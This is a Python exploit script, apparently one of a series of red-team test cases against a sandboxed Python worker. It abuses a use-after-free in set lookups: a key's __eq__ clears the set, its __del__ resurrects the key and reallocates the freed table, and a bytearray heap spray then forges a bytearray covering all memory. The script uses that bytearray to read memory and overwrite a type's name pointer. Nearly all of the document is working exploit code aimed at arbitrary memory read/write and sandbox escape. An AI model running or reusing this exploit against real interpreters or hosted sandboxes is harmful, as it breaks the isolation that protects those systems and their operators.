# technique: pass-81 hold (worker/pyset.c) ends when the outermost set compare returns, but set_lookkey then runs Py_DECREF(startkey) BEFORE its restart check (table != so->table || entry->key != startkey). The stored key S's __eq__ clears the set (its 2048-byte table is held) and drops the set's reference; the hold is released on return, and the Py_DECREF drops S to 0: S.__del__ (a plain Python function) resurrects S and runs s.update() of 20 keys, which mallocs a 1024-byte table at the freed address (ABA). The stale entry 100 past the new table still holds S, so discard() "finds" it, writes a dummy past the table and drops the resurrected S's last reference while we hold it; its 80-byte block is refilled as a fake bytearray over all memory. (red-team pass 82; each compare's first operand is held until the next compare)
# expect: any
import struct
BA_TYPE = 0x1001e00                 # &PyByteArray_Type (nm safepy-worker: not PIE)
FLOAT_TYPE = 0x100f9e0              # &PyFloat_Type

resurrected = []

class S:
    __slots__ = ("st", "b", "c", "d", "e")   # 16 + 40 = 56 bytes + 16 GC header: an 80-byte block
    def __init__(self, st): self.st = st
    def __hash__(self): return 100
    def __eq__(self, other):
        st = self.st
        st["calls"] += 1
        if st["calls"] == 1:
            st["s"].clear()           # frees (holds) the 128-entry (2048 B) table; drops the set's ref to us
            return True               # the hold ends when this returns; lookkey then drops its own ref
        return False
    def __del__(self):
        st = self.st
        resurrected.append(self)      # survive this dealloc (refcount 1: the list)
        st["s"].update(st["big"])     # no compare in progress now: a 1024 B table at the freed address

class Marker:                         # a hash-100 key in the new table: a restarted lookup calls it
    def __init__(self, st): self.st = st
    def __hash__(self): return 100
    def __eq__(self, other):
        self.st["calls"] += 1
        return False

def fake_ba(tp, addr, n):
    return struct.pack("<qQqqQQq", 1 << 40, tp, n, n + 1, addr, addr, 0)

FAKE = bytes(16) + fake_ba(BA_TYPE, 0, 1 << 62) + bytes(7)   # 79 bytes: an 80-byte buffer, object at +16
keepsets, spray_keep = [], []

def attempt():
    st = {"calls": 0}
    big = set(range(1000, 1019))
    big.add(Marker(st))
    st["big"] = big
    s = set(range(40))                # a 128-entry table; entry 100 is free
    s.add(S(st))                      # hash 100: lands in entry 100 (offset 1600); the set's ref is the only one
    st["s"] = s
    n0 = len(resurrected)
    s.discard(100)
    keepsets.append(s)
    if len(s) != 19 or len(resurrected) == n0:   # the address was not reused: the lookup restarted
        return None
    spray = [bytearray() for _ in range(3000)]
    spray_keep.append(spray)
    for b in spray:
        b += FAKE                     # refill S's freed 80-byte block
    return resurrected[-1]

for n in range(300):
    M = attempt()
    if M is not None:
        print("attempt", n, "type of our freed S:", type(M).__name__)
        if type(M) is bytearray:
            print("len", hex(len(M)), "at 0x400000:", bytes(M[0x400000:0x400004]))
            M[FLOAT_TYPE + 24:FLOAT_TYPE + 32] = struct.pack("<Q", 0x400001)   # tp_name -> "ELF..."
            print("type(1.5).__name__ is now", repr(type(1.5).__name__))
            raise RuntimeError("arbitrary memory read/write through a freed set key")
        break
else:
    print("address never reused")
result = "done"
